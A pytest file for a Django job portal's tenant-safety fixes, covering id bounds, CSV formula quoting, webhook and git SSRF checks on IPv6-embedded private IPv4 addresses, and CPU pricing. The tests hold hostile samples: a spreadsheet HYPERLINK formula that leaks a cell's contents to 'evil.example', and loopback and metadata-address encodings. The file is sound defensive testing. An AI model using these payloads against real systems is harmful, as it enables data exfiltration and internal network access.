"""The lows of the third tenant-safety round (issue 33, point 5): ids past any column, CSV
cells a spreadsheet runs, webhook targets that hide a private IPv4 address in an IPv6 one,
CPU-only jobs free on the sandbox.

Before: `/jobs/states/?ids=²` was a 500 (`'²'.isdigit()` is true, `int('²')` raises), a
30-digit id was a 500 under SQLite (OverflowError, see test_sqlite_server.py); the series
CSV wrote a metric named `=HYPERLINK(...)` as it is; `64:ff9b::7f00:1`, `2002:7f00:1::` and
`::127.0.0.1` passed the webhook check (`is_global` is true for all three); the sandbox
priced a CPU-hour at 0 and a new project's quota had no CPU-hour budget.
"""

import csv
import io
import socket
from dataclasses import dataclass, field
from datetime import timedelta
from decimal import Decimal
from ipaddress import IPv6Address, ip_address
from typing import Any
from urllib.parse import quote

import pytest
from django.contrib.auth.models import User
from django.test import Client

from clusters.models import Cluster
from clusters.services import cluster_register_sandbox
from jobs.code.fetch import git_fetch
from jobs.enums import State
from jobs.errors import JobError
from jobs.estimate import project_room, request_estimate
from monitoring.alerts.delivery import WebhookRefused, webhook_check
from monitoring.models import AlertKind, AlertRule
from monitoring.series.write import series_append
from portal_lib.addresses import embedded_ipv4, is_public
from portal_lib.bounds import BIGINT_MAX, IdOutOfRange, row_id, row_ids
from portal_lib.csv_cells import SafeCsvWriter, csv_cell
from projects.models import Project, Quota
from projects.quota import QuotaRequest
from tests import factories
from web.api_errors import SERVER_ERROR
from web.jobs.api import JobListCreateView

NINES_30 = "9" * 30
NINES_26 = "9" * 26

# --- ids in a query ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("12", 12),
        (" 12 ", 12),
        (str(BIGINT_MAX), BIGINT_MAX),
        ("000" + str(BIGINT_MAX), BIGINT_MAX),
        (str(BIGINT_MAX + 1), None),
        (NINES_30, None),
        ("²", None),  # isdigit() but int() refuses it
        ("١٢", None),  # Arabic-Indic digits: int() reads 12, but no link writes them
        ("-1", None),
        ("1e3", None),
        ("", None),
    ],
)
def test_row_id_takes_ascii_digits_within_a_bigint(text: str, expected: int | None) -> None:
    assert row_id(text) == expected


def test_row_ids_skips_junk_and_refuses_a_number_past_the_column() -> None:
    assert row_ids("3,abc,²,3,,7", name="ids", limit=10) == [3, 7]
    assert row_ids("1,2,3,4", name="ids", limit=2) == [1, 2]
    with pytest.raises(IdOutOfRange) as refused:
        row_ids(f"1,{NINES_30}", name="runs", limit=10)
    assert refused.value.status == 400
    assert refused.value.message.startswith("runs: 999")
    assert str(BIGINT_MAX) in refused.value.message
    assert "runs" in refused.value.errors


@pytest.mark.django_db
def test_job_states_refuses_an_oversized_id_and_skips_other_digits(
    client: Client, member: User, project: Project, cluster: Cluster
) -> None:
    job, _ = factories.job(project, member, cluster, state=State.RUNNING)
    client.force_login(member)
    oversized = client.get("/jobs/states/", {"ids": f"{job.pk},{NINES_30}"})
    assert oversized.status_code == 400
    assert "ids" in oversized.json() and str(BIGINT_MAX) in oversized.json()["detail"]
    superscript = client.get("/jobs/states/", {"ids": f"{job.pk},²"})
    assert superscript.status_code == 200
    assert list(superscript.json()["jobs"]) == [str(job.pk)]


@pytest.mark.django_db
def test_compare_refuses_an_oversized_run_id(
    client: Client, member: User, project: Project, cluster: Cluster
) -> None:
    job, _ = factories.job(project, member, cluster)
    client.force_login(member)
    page = client.get(f"/projects/{project.slug}/compare/", {"runs": f"{job.pk},{NINES_26}"})
    assert page.status_code == 400
    assert "runs:" in page.content.decode() and str(BIGINT_MAX) in page.content.decode()
    curves = client.get(f"/projects/{project.slug}/compare/curves", {"runs": NINES_26})
    assert curves.status_code == 400 and "runs" in curves.json()
    shown = client.get(f"/projects/{project.slug}/compare/", {"runs": f"{job.pk},²"})
    assert shown.status_code == 200
    assert f'name="runs" value="{job.pk}"' in shown.content.decode()


@pytest.mark.django_db
def test_single_ids_in_links_are_not_found_rather_than_errors(
    client: Client, member: User, project: Project, cluster: Cluster
) -> None:
    client.force_login(member)
    assert client.get("/jobs/new/", {"clone": NINES_30}).status_code == 404
    assert client.get("/jobs/new/", {"clone": "²"}).status_code == 404
    assert client.get("/jobs/", {"q": "#" + NINES_30}).status_code == 200
    assert client.get("/jobs/", {"q": "#²"}).status_code == 200


# --- CSV cells ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_starts_a_formula_is_quoted(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert csv_cell(-1.5) == -1.5
    assert csv_cell("loss") == "loss"
    assert csv_cell("a=b") == "a=b"
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\n").writerows([["=cmd", -2], ["ok", None]])
    assert out.getvalue() == "'=cmd,-2\nok,\n"


FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


@pytest.mark.django_db
def test_the_series_csv_quotes_a_metric_name_that_is_a_formula(
    client: Client, member: User, project: Project, cluster: Cluster
) -> None:
    job, attempt = factories.job(project, member, cluster)
    series_append(points=[(attempt.pk, FORMULA, step, 0.5) for step in range(3)])
    client.force_login(member)
    url = f"/api/v1/jobs/{job.pk}/attempts/1/series/{quote(FORMULA, safe='')}"
    response = client.get(url, {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["x", "'" + FORMULA]
    assert rows[1:] == [["0.0", "0.5"], ["1.0", "0.5"], ["2.0", "0.5"]]


# --- webhook targets ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("address", "inside"),
    [
        ("::ffff:127.0.0.1", ["127.0.0.1"]),
        ("2002:7f00:1::", ["127.0.0.1"]),
        ("64:ff9b::7f00:1", ["127.0.0.1"]),
        ("64:ff9b::a9fe:a9fe", ["169.254.169.254"]),
        # Teredo: the server, then the client (stored inverted in the last 32 bits).
        ("2001:0:4136:e378:8000:63bf:3fff:fdd2", ["65.54.227.120", "192.0.2.45"]),
        ("2001:4860:4860::8888", []),
    ],
)
def test_embedded_ipv4_finds_each_form(address: str, inside: list[str]) -> None:
    ip = ip_address(address)
    assert isinstance(ip, IPv6Address)
    assert [str(v4) for v4 in embedded_ipv4(ip)] == inside


@pytest.mark.parametrize(
    ("address", "public"),
    [
        ("8.8.8.8", True),
        ("2001:4860:4860::8888", True),
        ("64:ff9b::808:808", True),  # NAT64 to a public address
        ("2002:808:808::1", True),  # 6to4 of a public address
        ("10.0.0.1", False),
        ("64:ff9b::7f00:1", False),
        ("64:ff9b::a00:1", False),
        ("64:ff9b:1::7f00:1", False),  # local-use NAT64 prefix
        ("2002:7f00:1::", False),
        ("2002:a9fe:a9fe::", False),
        ("::ffff:127.0.0.1", False),
        ("::ffff:10.1.2.3", False),
        ("::127.0.0.1", False),  # IPv4-compatible, deprecated
        ("::8.8.8.8", False),
        ("2001:0:4136:e378:8000:63bf:80ff:fffe", False),  # Teredo to 127.0.0.1
        ("ff0e::1", False),
    ],
)
def test_is_public_looks_inside_ipv6(address: str, public: bool) -> None:
    assert is_public(ip_address(address)) is public


@pytest.mark.parametrize(
    "host",
    [
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[::ffff:127.0.0.1]",
        "[::127.0.0.1]",
        "[64:ff9b::a00:5]",
        "[64:ff9b:1::a00:5]",
    ],
)
def test_webhook_check_refuses_ipv6_forms_of_private_ipv4(host: str, settings: Any) -> None:
    settings.ALERT_WEBHOOK_ALLOW_LOOPBACK = False
    with pytest.raises(WebhookRefused, match="not a public address"):
        webhook_check(f"http://{host}:8080/hook")


def test_webhook_check_refuses_a_name_resolving_to_nat64_loopback(
    monkeypatch: pytest.MonkeyPatch, settings: Any
) -> None:
    settings.ALERT_WEBHOOK_ALLOW_LOOPBACK = True  # loopback allowed; its NAT64 form is not

    def resolve(host: str, port: int, **kwargs: object) -> list[Any]:
        return [(socket.AF_INET6, socket.SOCK_STREAM, 6, "", ("64:ff9b::7f00:1", port, 0, 0))]

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    with pytest.raises(WebhookRefused, match="64:ff9b::7f00:1"):
        webhook_check("https://hooks.example.org/x")


@pytest.mark.django_db
def test_the_rules_page_refuses_a_nat64_webhook(member: User, settings: Any) -> None:
    settings.ALERT_WEBHOOK_ALLOW_LOOPBACK = False
    client = Client()
    client.force_login(member)
    page = client.post(
        "/alerts/rules/",
        {"kind": AlertKind.ENDED, "webhook_url": "http://[64:ff9b::7f00:1]:8000/x"},
    )
    assert "not a public address" in page.content.decode()
    assert not AlertRule.objects.exists()


# --- the sandbox's prices and a new project's CPU budget ---------------------------------


@dataclass(frozen=True)
class SandboxStub:
    """What `manage.py sandbox up` describes, without the machines behind it."""

    ssh_host: str = "127.0.0.1"
    ssh_port: int = 2222
    host_key: str = "ssh-ed25519 AAAA"
    users: dict[str, str] = field(default_factory=dict)
    base_run_dir: str = "/tmp/runs"
    partition: str = "gpu"
    gpu_model: str = "H200"
    portal_user: str = "portal"
    portal_key: str = "key"
    slurm_conf: str = "/etc/slurm/slurm.conf"


@pytest.mark.django_db
def test_a_cpu_only_job_on_the_sandbox_costs_something_and_meets_a_cpu_budget() -> None:
    sandbox = cluster_register_sandbox(info=SandboxStub())
    assert sandbox.price_per_cpu_hour > 0
    project = Project.objects.create(slug="new", name="New")
    quota = Quota.objects.create(project=project)  # the defaults a new project's quota gets
    assert quota.cpu_hours_per_period is not None and quota.cpu_hours_per_period > 0
    room = project_room(project=project)
    # 8 CPUs for a day, no GPU: priced, and inside the default budget.
    small = QuotaRequest(
        project=project, cluster=sandbox, partition="", gpus=0, cpus=8, time_limit=timedelta(1)
    )
    estimate = request_estimate(request=small, room=room)
    assert estimate.cost == (Decimal(8 * 24) * sandbox.price_per_cpu_hour).quantize(Decimal("0.01"))
    assert estimate.cost > 0 and estimate.fits
    assert estimate.cpu_left_before == quota.cpu_hours_per_period
    # 1,000 CPUs for a day: past the budget, refused in CPU-hours.
    large = QuotaRequest(
        project=project, cluster=sandbox, partition="", gpus=0, cpus=1000, time_limit=timedelta(1)
    )
    refused = request_estimate(request=large, room=room)
    assert not refused.fits and "CPU-h" in refused.message


# --- errors for API clients ----------------------------------------------------------------


@pytest.mark.django_db
def test_an_api_error_is_json_with_debug_on(
    member: User, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.DEBUG = True
    client = Client(raise_request_exception=False)
    client.force_login(member)

    def fails(*args: object, **kwargs: object) -> None:
        raise RuntimeError("secret detail of the failure")

    monkeypatch.setattr(JobListCreateView, "get", fails)
    failed = client.get("/api/v1/jobs/", HTTP_ACCEPT="text/html,*/*")
    assert failed.status_code == 500
    assert failed["Content-Type"] == "application/json"
    assert failed.json() == {"detail": SERVER_ERROR}
    missing = client.get("/api/v1/no-such-endpoint/", HTTP_ACCEPT="text/html")
    assert (missing.status_code, missing.json()) == (404, {"detail": "Not Found."})
    # DRF's own errors keep their bodies; pages keep theirs.
    assert client.get("/api/v1/jobs/999/").json() == {"detail": "Not found."}
    assert "text/html" in client.get("/no-such-page/")["Content-Type"]


@pytest.mark.parametrize("address", ["64:ff9b::7f00:1", "2002:a00:1::"])
def test_a_git_host_resolving_to_an_embedded_private_ipv4_is_not_fetched(
    settings: Any, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    settings.CODE_GIT_ALLOW_LOCAL = False

    def resolve(host: str, port: int, **kwargs: object) -> list[Any]:
        return [(socket.AF_INET6, socket.SOCK_STREAM, 6, "", (address, port, 0, 0))]

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    with pytest.raises(JobError, match="private or local address"):
        git_fetch(url="https://git.example.org/repo.git", ref="main", store=lambda chunks: None)
